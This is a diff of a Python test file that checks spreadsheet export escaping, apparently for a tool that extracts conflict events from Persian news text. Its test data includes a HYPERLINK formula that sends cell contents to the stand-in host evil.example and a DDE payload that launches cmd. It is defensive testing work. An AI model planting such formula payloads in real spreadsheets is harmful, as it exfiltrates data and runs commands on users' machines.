@@ -15,7 +15,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def test_formula_cells_are_exported_as_text(client, tiny_gazetteer):
-    report = ingest_text("نیروهای دموکراتیک سوریه روستای باغوز تحتانی را از کنترل داعش خارج کردند.", outlet="@SUM(1+1)").report
+    report = ingest_text(
+        "نیروهای دموکراتیک سوریه روستای باغوز تحتانی را از کنترل داعش خارج کردند.", outlet="@SUM(1+1)"
+    ).report
     event = Event.objects.get(report=report, kind="capture_or_liberation")
     Event.objects.filter(pk=event.pk).update(evidence=FORMULA)
     Actor.objects.filter(pk=event.actor1_id).update(name="+cmd|' /C calc'!A0")
@@ -32,5 +34,14 @@ def test_formula_cells_are_exported_as_text(client, tiny_gazetteer):
 
 def test_spreadsheet_safe():
     assert [spreadsheet_safe(v) for v in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "Hajin", "", 35.5, -3, None)] == [
-        "'=1+1", "'+1", "'-1+1", "'@A1", "'\t=1", "Hajin", "", 35.5, -3, None,
+        "'=1+1",
+        "'+1",
+        "'-1+1",
+        "'@A1",
+        "'\t=1",
+        "Hajin",
+        "",
+        35.5,
+        -3,
+        None,
     ]
